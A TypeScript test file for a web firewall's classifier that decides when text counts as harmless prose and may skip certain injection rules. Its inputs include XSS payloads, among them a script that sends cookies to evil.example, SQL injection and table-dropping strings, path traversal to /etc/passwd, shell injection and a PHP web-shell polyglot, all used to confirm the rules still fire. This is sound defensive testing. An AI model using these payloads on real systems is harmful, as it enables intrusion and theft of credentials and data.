import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import { leavesContext, markdownField } from './code.ts';
import {
  canonicalText,
  familiesThatMayFire,
  inlineImageSummary,
  isNaturalLanguage,
  MAX_PROSE_BYTES,
  PROSE_FAMILY_RULES,
  proseWaivers,
  QUERY_MIN_WORDS,
  searchExpressionOnly,
  templateCallsInert,
  textToBytes,
} from './view.ts';

const bytes = (s: string): string => Buffer.from(s, 'utf8').toString('latin1');

describe('canonicalText', () => {
  test('CJK and other scripts become neutral stand-ins, never the low byte of their code point', () => {
    // U+5728 在 would be `(` and U+FF0C ， a `,` under utf8toUnicode + urlDecodeUni.
    assert.equal(canonicalText(textToBytes('請放在管理室，謝謝。')), 'xxxxxx,xx.');
    assert.equal(canonicalText(textToBytes('שרה כהן')), 'xxx xxx');
    assert.equal(canonicalText(textToBytes('٣ items')), '0 items');
    assert.equal(canonicalText(textToBytes('• one • two 🎉')), '  one   two  ');
  });

  test('NFKC folds full-width and compatibility forms into the ASCII an evasion relies on', () => {
    assert.equal(
      canonicalText(textToBytes('＜ｓｃｒｉｐｔ＞alert(1)＜/ｓｃｒｉｐｔ＞')),
      '<script>alert(1)</script>',
    );
    assert.equal(canonicalText(textToBytes('ſelect')), 'select');
    assert.equal(canonicalText(textToBytes('１＇ OR ＇1＇=＇1')), "1' OR '1'='1");
  });

  test('best-fit quote look-alikes become quotes', () => {
    assert.equal(canonicalText(textToBytes('adminʼ OR 1=1--')), "admin' OR 1=1--");
    assert.equal(canonicalText(textToBytes('aʺb')), 'a"b');
    // NFKC first: ″ (U+2033) is two primes, each a quote.
    assert.equal(canonicalText(textToBytes('a″b')), "a''b");
  });

  test('ASCII, Latin-1 and invalid UTF-8 are returned unchanged (same string)', () => {
    for (const s of ['plain', bytes('Zürich, Montréal, São Paulo'), '\xc3\x28 broken', '\xff\xfe']) {
      assert.equal(canonicalText(s), s);
    }
  });
});

describe('isNaturalLanguage', () => {
  test('sentences in several languages are prose', () => {
    for (const s of [
      'Does the alert() in the docs example still work with the new SDK?',
      'Windows users: open C:\\Program Files\\Acme and run setup.exe.',
      'Nos clients veulent supprimer leur compte : où est l’option ?',
      'Не могу удалить старый адрес доставки из профиля.',
      'Drop off kids; select birthday gifts',
    ])
      assert.ok(isNaturalLanguage(s), s);
  });

  test('payloads, code, paths, short values and keyword soups are not', () => {
    for (const s of [
      '<img src=x onerror=alert(1)>',
      "1' UNION SELECT password FROM users--",
      '1 UNION SELECT username, password FROM users--',
      'name desc; drop table users',
      '../../../../etc/passwd',
      '; cat /etc/passwd',
      'if (a) { b = c[d] && e | f; } else { $g = `h`; }',
      'select committee',
      'rm -rf node_modules && npm ci && npm run build',
    ])
      assert.ok(!isNaturalLanguage(s), s);
  });
});

describe('proseWaivers', () => {
  const w = (s: string): string => proseWaivers(bytes(s));

  test('each family is waived only without the syntax its exploits need', () => {
    assert.equal(w('Does the alert() in the docs example still work with the new SDK?'), 'flpsx');
    // No `;` and inert quotes: no stacked query either (session 10).
    assert.equal(w("In the docs, the example calls window.alert('Saved!') after the fetch."), 'flsx');
    // Family f: a formula's function call in prose; a call with a variable, a nested call or a break-out is not inert.
    assert.equal(w('Rates follow the equation k = A·exp(−Ea/RT), with Ea in kJ (per mole).'), 'flpsx');
    for (const t of [
      'Rates follow the equation k = exp($_GET[c]) with Ea in kJ per mole as usual',
      'Rates follow the equation k = exp(system(id)) with Ea in kJ per mole as usual',
      'The order was fine"); system("id"); ("ok and we shipped it',
      'Rates follow the equation k = exp(1) union select password from users',
    ])
      assert.ok(!w(t).includes('f'), t);
    // A Windows path inside a sentence: no file exploit syntax, but the backslashes could end an SQL string.
    assert.equal(w('Windows users: open C:\\Program Files\\Acme and run setup.exe.'), 'lpx');
    // A prose semicolon before plain words: no command there either (family c).
    assert.equal(w('Drop off kids; select birthday gifts'), 'clqsx');
  });

  test('XSS: markup, handlers, script URLs, break-outs and non-inert calls keep 941390', () => {
    for (const s of [
      'Great article, thanks for sharing alert(document.cookie) with us today',
      'Great article, thanks for sharing eval(atob(this.id)) with us today',
      'Nice post my friend <img src=x onerror=alert(1)> see you',
      'Please click here javascript:alert(1) to see the full report',
      'my name is really long and then onmouseover=alert(1) happens here',
      "the best answer is '-alert(1)-' as everyone knows well",
      'the best answer is "};alert(1);// as everyone knows well',
      'you can call setTimeout{1} here and see what happens then',
    ])
      assert.ok(!w(s).includes('x'), s);
  });

  test('session 8: request lines without a line break (n), menu paths, merge tags, manifests, PowerShell', () => {
    assert.ok(w('GET /index.html HTTP/1.1').includes('n'));
    assert.ok(!w('GET /index.html HTTP/1.1\r\nHost: x').includes('n'));
    assert.ok(!w('x\nGET /admin HTTP/1.1').includes('n'));
    assert.ok(
      w('Quick q: is the 1099 uploaded under Documents > Tax, or do I have to email it?').includes('c'),
    );
    assert.ok(w('Go to Settings > Billing > Invoices and click the download button').includes('c'));
    assert.ok(!w('then run the tool and cat it > /var/www/x.php please ok').includes('c'));
    assert.ok(!w('then run the tool and cat it > x.php please ok now').includes('c'));
    assert.ok(w('Hi {{first_name}},\n\nView this email in your browser: {{web_version_url}}').includes('c'));
    assert.equal(w('frontend/package-lock.json'), 'l');
    assert.equal(w('../package-lock.json'), '');
    assert.equal(w('/srv/app/package-lock.json'), '');
    assert.equal(w('powershell'), 'p');
    assert.ok(w('retrying job export-csv (attempt 3/5): exit status 1, giving up now').includes('p'));
    assert.ok(!w('the report said (Remove-Item C:/data) and then it stopped').includes('p'));
    assert.ok(!w('the report said (iex whoami) and then it stopped there').includes('p'));
  });

  test('session 8: cron schedules are inert tokens (g); code exemptions need a document field and no break-out', () => {
    assert.equal(w('*/5 * * * *'), 'g');
    assert.equal(w('0 7 * * MON-FRI'), 'g');
    assert.ok(!w('1 OR 1=1 * * *').includes('g'));
    assert.ok(w('cron is every 5 min, ok? "*/5 * * * *"').includes('q'));
    assert.equal(w('claims/tmp/1d5bae5f-0fa3-40c8-9ce5-0dd7d1a61192.heic'), 'l');
    assert.equal(w('/tmp/x.heic'), '');
    assert.equal(w('../../etc/passwd.png'), '');
    assert.ok(w('ops@northwind.io').includes('w'));
    assert.ok(w('Client: Northwind').includes('w'));
    assert.ok(!w("x' UNION SELECT * FROM northwind..customers--").includes('w'));
    assert.ok(!w('Northwind and information_schema.tables please').includes('w'));
    // Family o: a tag's `>` before a parenthesis is no process substitution, unless the text expands something.
    assert.ok(w('<p>Cone on for <strong>10–14 days</strong> (yes, even at night)</p>').includes('o'));
    assert.ok(!w('<p>Cone on for <strong>$(whoami)</strong> (yes, even at night)</p>').includes('o'));
    assert.ok(!w('is it "1 AND 1 AND 1 AND 1 AND 1" or not okay friend').includes('g'));
    assert.ok(markdownField('json.issue.body'));
    assert.ok(markdownField('json.comments.0.bodyMarkdown'));
    assert.ok(markdownField('json.postmortem.sections.timeline'));
    assert.ok(!markdownField('json.user.name'));
    assert.ok(!markdownField('json.couponCode'));
    for (const c of [
      "' UNION SELECT password FROM users--",
      "x' UNION SELECT password FROM users WHERE ''<>'",
      "1');DROP TABLE users;--",
      "x'||(SELECT password FROM users)||'",
      '; cat /etc/passwd',
    ])
      assert.ok(leavesContext(c), c);
    for (const c of [
      "SELECT * FROM t WHERE status = 'paid' AND total > 10;",
      "UPDATE users SET active = false WHERE last_login < now() - interval '2 years';",
      'cursor.execute("SELECT name FROM sqlite_master WHERE type=\'table\'")',
      'query = f"SELECT * FROM observations WHERE site = \'{site}\' AND year = {year}"',
      "It's a snippet: print('or else')",
    ])
      assert.ok(!leavesContext(c), c);
  });

  test('tags named in a sentence get h only when they are bare and nothing could run', () => {
    for (const s of [
      'In this episode: why <script> tags still show up in bug bounties, and how to start in security.',
      '<script> tags in innerHTML do not execute but <img onerror> handlers do',
      'Escapes HTML in log lines (was rendering `<script>` tags as HTML!) and drops jQuery',
      'Wrap the dashboard in a <Suspense> boundary and move the <Chart /> into it',
    ])
      assert.ok(w(s).includes('h'), s);
    for (const s of [
      'In this episode we talk about <script>alert(1)</script> and other classics',
      'In this episode we talk about <script>alert(1) and other classics today',
      'In this episode we talk about <script> x=1 and other classics today',
      'In this episode we talk about <script> tags and </script> endings today',
      'Nice post my friend <img src=x onerror=alert(1)> see you',
      'Nice post my friend <img src="javascript:alert(1)"> see you there',
      'Nice post my friend <svg onload=alert(1)> see you there later',
      'Nice post my friend <script> then javascript:alert(1) see you',
      'Nice post my friend <b>bold</b> then &lt;script&gt;alert(1)&lt;/script&gt; and more',
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal template expression in the text
      'Nice post my friend <script> tags and ${alert(1)} and more text',
      '<script>fetch?.("https://evil.example/c?" + document.cookie) // why do script tags show up here',
      '<script>alert?.(document.cookie) // why do script tags show up in my page',
      '<script>top?.eval?.(atob?.("YWxlcnQoMSk=")) // why do script tags show up here',
    ])
      assert.ok(!w(s).includes('h'), s);
  });

  test('LFI: values that start like a path, traversal, encodings, NUL and wrappers keep 930120', () => {
    for (const s of [
      '/etc/passwd is where the users of this box live',
      'C:\\Windows\\win.ini is the file I would like to read now',
      'please open the file at ../../../etc/passwd for me now',
      'please open the file at ..%2f..%2fetc%2fpasswd for me now',
      'please include php://filter/resource=index.php for me now',
      'please open this file for me now /etc/passwd\0.png',
    ])
      assert.ok(!w(s).includes('l'), s);
  });

  test('SQL: quotes, comments, backslashes, expression starts and stacked queries keep 942350', () => {
    for (const s of [
      "Hello there it's me; select name from users",
      'Hello there friend; select name from users -- and more',
      '1 and then more words; select name from users',
      'status, title, name; drop table users',
      'Hello my friend; drop table users; name desc; select 1',
    ])
      assert.ok(!w(s).includes('s'), s);
  });

  test('values longer than MAX_PROSE_BYTES are not classified', () => {
    const long = 'The select committee met again. '.repeat(Math.ceil(MAX_PROSE_BYTES / 32) + 1);
    assert.ok(isNaturalLanguage(long));
    assert.equal(proseWaivers(long), '');
  });

  test('not natural language: no waiver at all', () => {
    assert.equal(w('<script>alert(1)</script>'), '');
    assert.equal(w('alert()'), '');
    assert.equal(w('Program Files'), '');
    assert.equal(proseWaivers('\xff\xfe not utf-8 at all here'), '');
  });

  test('query values (QUERY_MIN_WORDS): short search phrases are prose, single tokens and payloads are not', () => {
    const q = (s: string): string => proseWaivers(bytes(s), QUERY_MIN_WORDS);
    assert.equal(q('"program files" windows 11'), 'lqx');
    assert.equal(q('"select committee" report'), 'lqx');
    assert.equal(q('alert() vs console.log'), 'lsx');
    assert.equal(q('Program Files'), 'lqsx');
    assert.equal(q('alert() in the docs'), 'lsx');
    // The JSON threshold (4 words) is unchanged: as a JSON value only its search syntax counts (family q).
    assert.equal(w('"program files" windows 11'), 'q');
    // Search expressions (any value): phrases, qualifiers, groups; no statement word, tautology shape or operator.
    assert.ok(q('"drop-down" AND (export OR csv)').includes('q'));
    assert.ok(q('is:open "order by" in:title').includes('q'));
    for (const s of [
      '"x" OR 1',
      '(a) OR true',
      '"a" union select b',
      'x" OR 1=1 --',
      '(a OR b',
      '"x\' or 1=1-- " y',
    ])
      assert.ok(!searchExpressionOnly(s), s);
    for (const s of [
      'alert(document.cookie)',
      '<script>alert(1)</script>',
      'alert(document.cookie) now',
      '../../../../etc/passwd',
      '/etc/passwd please',
      "1' OR '1'='1",
      'name desc; drop table users',
      'x; select password from users',
    ])
      assert.equal(q(s), '', s);
    assert.ok(!q('Great <img src=x onerror=alert(1)> thanks').includes('x'));
    assert.ok(!q('open ../../etc/passwd now').includes('l'));
    assert.ok(!q("my order 1' OR '1'='1").includes('s'));
    assert.ok(!q("my order 1' OR '1'='1").includes('q'));
    assert.ok(!q('"x" union select password from users').includes('q'));
    assert.ok(!q('name; select name from users').includes('s'));
  });

  test('familiesThatMayFire: the families whose rule could fire at all (escapes count)', () => {
    assert.equal(familiesThatMayFire('12 34'), '');
    assert.equal(familiesThatMayFire('garden lantern'), 'c');
    assert.equal(familiesThatMayFire('"program files" windows 11'), 'clq');
    assert.equal(familiesThatMayFire('alert() vs console.log'), 'clx');
    assert.equal(familiesThatMayFire('drop off kids; select gifts'), 'cqs');
    assert.equal(familiesThatMayFire('al&#101;rt'), 'csx');
    assert.equal(familiesThatMayFire('%2e%2e%2f'), 'lqsx');
  });

  test('every family exempts at least one CRS rule', () => {
    for (const ids of Object.values(PROSE_FAMILY_RULES)) assert.ok(ids.length > 0);
  });
});

describe('inlineImageSummary', () => {
  const uri = (type: string, payload: Buffer): string => `data:${type};base64,${payload.toString('base64')}`;
  const binary = Buffer.from(Array.from({ length: 96 }, (_, i) => (i * 97 + 13) % 256));

  test('a binary raster image is summarised', () => {
    assert.equal(inlineImageSummary(uri('image/png', binary)), '[image/png data, 96 bytes]');
    assert.equal(inlineImageSummary(uri('image/JPEG', binary)), '[image/jpeg data, 96 bytes]');
  });

  test('a small image is summarised by its signature even when most of its bytes are printable', () => {
    const png = Buffer.concat([
      Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
      Buffer.from('9046a675f149362409a347d4'),
    ]);
    assert.equal(inlineImageSummary(uri('image/png', png)), '[image/png data, 32 bytes]');
    // Printable text without a signature is text; a signature does not excuse markup behind it.
    assert.equal(inlineImageSummary(uri('image/png', Buffer.from('9046a675f149362409a347d48cec'))), null);
    const withScript = Buffer.concat([png, Buffer.from('<script>alert(1)</script>')]);
    assert.equal(inlineImageSummary(uri('image/png', withScript)), null);
  });

  test('text payloads, script or server-page markers, SVG and other types are not', () => {
    assert.equal(inlineImageSummary(uri('image/png', Buffer.from('<script>alert(1)</script>'))), null);
    const polyglot = Buffer.concat([
      Buffer.from('GIF89a'),
      binary,
      Buffer.from('<?php system($_GET[c]); ?>'),
    ]);
    assert.equal(inlineImageSummary(uri('image/gif', polyglot)), null);
    assert.equal(inlineImageSummary(uri('image/svg+xml', binary)), null);
    assert.equal(inlineImageSummary(uri('text/html', binary)), null);
    assert.equal(inlineImageSummary(`${uri('image/png', binary)}"><script>`), null);
    assert.equal(inlineImageSummary('not a data url at all'), null);
  });
});

describe('properties', () => {
  const anyText = fc.string({ unit: 'grapheme', maxLength: 80 });

  test('canonicalText is idempotent and leaves no code point above U+00FF', () => {
    fc.assert(
      fc.property(anyText, (t) => {
        const once = canonicalText(textToBytes(t));
        assert.equal(canonicalText(once), once);
        assert.ok(!/[\u0100-\uffff]/.test(Buffer.from(once, 'latin1').toString('utf8')));
      }),
      { numRuns: 300 },
    );
  });

  test('a sentence around a markup or traversal payload never gets the matching waiver', () => {
    const payloads = [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '../../etc/passwd',
      "' OR 1=1 --",
    ];
    const words = fc.array(
      fc.constantFrom('the', 'order', 'arrived', 'late', 'please', 'select', 'program'),
      {
        minLength: 2,
        maxLength: 8,
      },
    );
    fc.assert(
      fc.property(words, fc.constantFrom(...payloads), words, (a, p, b) => {
        const w = proseWaivers(bytes(`${a.join(' ')} ${p} ${b.join(' ')}`));
        if (p.startsWith('<')) assert.ok(!w.includes('x'), w);
        if (p.startsWith('..')) assert.ok(!w.includes('l'), w);
        if (p.startsWith("'")) assert.ok(!w.includes('s'), w);
      }),
      { numRuns: 300 },
    );
  });
});

describe('filterExpressionOnly', () => {
  test('comparisons of fields with literals, lists and calls; balanced; no statements, delays or tautologies', async () => {
    const { filterExpressionOnly } = await import('./view.ts');
    for (const t of [
      'project = OPS AND status in ("In Progress", "To Do") ORDER BY updated DESC',
      'assignee = currentUser() AND resolution = Unresolved',
      'reporter = "ana" AND status != Done',
      'sprint in openSprints() AND component is EMPTY',
      'created >= -30d',
    ])
      assert.equal(filterExpressionOnly(t), true, t);
    for (const t of [
      "x' OR '1'='1",
      'id = 1 OR 1 = 1',
      '1 = 1',
      'name = name',
      'a = 1 AND sleep(5)',
      'a = (select 1)',
      'a = 1; drop table x',
      'status = open -- comment',
      'a = 0x41',
      'a = 1 AND (b = 2',
      'just some words here',
      '',
    ])
      assert.equal(filterExpressionOnly(t), false, t);
  });
});

describe('value view: linear time on hostile input (session 7)', () => {
  test(
    'template tags, delay calls, union scans, search syntax and prose on 30 KB of repeated characters',
    { timeout: 20_000 },
    () => {
      const pats = ['a', '1', '(', '{{a', ' ', '"x" ', 'union ', 'sleep( ', 'x:', '    a\n\n', ' | '];
      for (const p of pats) {
        for (const suffix of ['!', ')', '}}']) {
          const v = p.repeat(Math.ceil(30_000 / p.length)).slice(0, 30_000) + suffix;
          const t = performance.now();
          proseWaivers(v);
          proseWaivers(v, QUERY_MIN_WORDS);
          templateCallsInert(`{{${v.slice(0, 290)}!}}${v}`);
          searchExpressionOnly(v.slice(0, 500));
          const ms = performance.now() - t;
          // Exponential or quadratic backtracking takes seconds to minutes here; linear work takes milliseconds.
          assert.ok(ms < 1_000, `${JSON.stringify(p)}+${JSON.stringify(suffix)}: ${ms.toFixed(0)} ms`);
        }
      }
    },
  );
});
